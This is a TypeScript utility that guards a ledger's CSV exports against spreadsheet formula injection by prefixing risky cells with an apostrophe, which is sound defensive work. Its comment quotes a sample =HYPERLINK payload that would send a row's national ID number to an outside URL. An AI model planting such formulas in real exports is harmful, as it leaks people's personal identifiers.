import type { Options } from 'csv-stringify/sync';

/**
 * A CSV the ledger writes is opened in a spreadsheet, where a text cell that begins with `=`, `+`,
 * `-` or `@` (or a tab or carriage return before one) is run as a formula: a name typed as
 * `=HYPERLINK("http://…?"&E2,"详情")` in the personal-data store would send the row's 身份证号
 * away when an officer clicks it (CSV injection, CWE-1236). Such a cell is written with a leading
 * apostrophe, which spreadsheets show as text; a plain number such as `-12.50` is left as it is.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^[+-]?\d+(\.\d+)?$/;

export const spreadsheetText = (text: string): string => (FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text);

/** `csv-stringify` options that pass every string cell through `spreadsheetText`. */
export const SPREADSHEET_SAFE_CSV: Pick<Options, 'cast'> = { cast: { string: spreadsheetText } };
